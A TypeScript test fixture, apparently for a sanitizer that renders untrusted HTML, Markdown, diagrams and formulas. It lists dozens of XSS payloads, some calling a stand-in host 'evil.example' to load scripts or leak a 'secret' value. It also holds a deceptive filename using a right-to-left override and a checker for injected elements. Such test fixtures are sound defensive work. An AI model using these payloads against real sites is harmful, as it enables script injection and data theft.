/**
 * What has been tried on pages that show other people's text: HTML, Markdown, formulas and diagrams that run something, load
 * something from another host, or leave the page. `owned` would be set, or `evil.example` asked, if one of them worked.
 */
const deed = 'window.owned=1';
const evil = 'https://evil.example';

export const hostile: readonly string[] = [
  // HTML that runs something
  `<script>${deed}</script>`,
  `<script src="${evil}/x.js"></script>`,
  `<SCRIPT\n>${deed}</SCRIPT\n>`,
  `<img src=x onerror="${deed}">`,
  `<img src=x onerror=${deed}//`,
  `text <img/src/onerror=${deed}> text`,
  `<svg onload="${deed}"></svg>`,
  `<svg><script>${deed}</script></svg>`,
  `<svg><animate onbegin="${deed}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${deed}"><text y=20>click</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${deed}&gt;">`,
  `<details open ontoggle="${deed}"><summary>more</summary></details>`,
  `<video autoplay onplay="${deed}"><source src="${evil}/v.mp4" onerror="${deed}"></video>`,
  `<body onload="${deed}">`,
  `<input autofocus onfocus="${deed}">`,
  `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  `<iframe src="javascript:parent.${deed}"></iframe>`,
  `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${deed}</script>"></object>`,
  `<embed src="${evil}/x.swf">`,
  `<template><script>${deed}</script></template>`,
  `<div\nonmouseover="${deed}"\nstyle="position:fixed;inset:0">everywhere</div>`,
  // HTML that loads or leads somewhere
  `<style>@import url(${evil}/x.css); body { display: none }</style>`,
  `<link rel="stylesheet" href="${evil}/x.css"><link rel="preconnect" href="${evil}">`,
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `<base href="${evil}/">`,
  `<form action="${evil}"><button formaction="javascript:${deed}">Send</button></form>`,
  `<a href="${evil}" ping="${evil}/ping">a link with a ping</a>`,
  `<p style="background:url(${evil}/bg.png)">a background</p>`,
  `<picture><source srcset="${evil}/p.png"><img src="${evil}/p.png"></picture>`,
  // Markdown
  `![a picture](${evil}/pixel.png?q=secret)`,
  `![a picture][far]\n\n[far]: ${evil}/pixel.png "title"`,
  `![picture](data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${deed}"/>`)})`,
  `[click](javascript:${deed})`,
  `[click](JaVaScRiPt:${deed})`,
  `[click](java\tscript:${deed})`,
  `[click](&#106;avascript:${deed})`,
  `[click](data:text/html,<script>${deed}</script>)`,
  `[click](vbscript:x) [click](file:///etc/passwd) [click](blob:${evil}/x)`,
  `[click](//evil.example/x) <javascript:${deed}> [ref]\n\n[ref]: javascript:${deed}`,
  `[a "title" that closes](${evil} "\\"onmouseover=${deed} x=\\"")`,
  `[^1]\n\n[^1]: <img src=x onerror="${deed}">`,
  // Code and diagrams
  '```"><img src=x onerror=window.owned=1>\ncode\n```',
  '```js onload=window.owned=1\n</code></pre><img src=x onerror=window.owned=1>\n```',
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${deed}>"]-->B; click A "javascript:${deed}"\n\`\`\``,
  `\`\`\`html\n<script>${deed}</script>\n\`\`\``,
  `\`<img src=x onerror=${deed}>\``,
  // Formulas
  `$$\\href{javascript:${deed}}{x}$$`,
  `$$\\includegraphics{${evil}/formula.png}$$`,
  `$$\\htmlStyle{background:url(${evil}/f.png)}{x} \\htmlData{onclick=${deed}}{y} \\url{javascript:${deed}}$$`,
  `$$\\def\\a{\\a\\a}\\a$$`,
  `$$\\text{</span><img src=x onerror=${deed}>}$$`,
];

/** As a title or a name: one line, no slashes, as the name of a file may not have. */
export const hostileName = `"><img src=x onerror=${deed}>'\u202Efdp.`;

/** Elements and attributes that no message may bring into the page; an expression whose value is the list of what was found. */
export const whatWentThrough = `(() => {
  const found = [];
  if (window.owned !== undefined) found.push('something ran');
  for (const place of document.querySelectorAll('article, nav, aside, h1, [role=region]')) {
    for (const element of place.querySelectorAll('*')) {
      const inFormula = element.closest('.katex') !== null;
      const icon = element.closest('svg.lucide, svg[aria-hidden=true]') !== null;
      const name = element.tagName.toLowerCase();
      if (/^(script|iframe|object|embed|form|meta|link|style|base|video|audio|template|picture|source)$/.test(name)
        && !(name === 'form' && element.closest('article') === null)) found.push(element.outerHTML);
      if (/^(svg|math)$/.test(name) && !inFormula && !icon) found.push(element.outerHTML);
      for (const { name: attribute, value } of element.attributes) {
        if (/^(on|ping$|srcdoc$|formaction$|srcset$)/.test(attribute)) found.push(element.outerHTML);
        // A diagram: as a picture nothing of it runs or loads.
        const drawing = name === 'img' && value.startsWith('data:image/svg+xml;charset=utf-8,') && element.closest('figure.code-block') !== null;
        if (/^(src|data|poster|background)$/.test(attribute) && !drawing && !/^(data:image\\/(png|jpeg|gif|webp)|blob:|\\/)/.test(value)) found.push(element.outerHTML);
        if (attribute === 'style' && /url\\(/i.test(value)) found.push(element.outerHTML);
        if (/href$/.test(attribute) && !/^(https?:|mailto:|#|\\/(?!\\/))/.test(value)) found.push(element.outerHTML);
      }
    }
  }
  return found;
})()`;
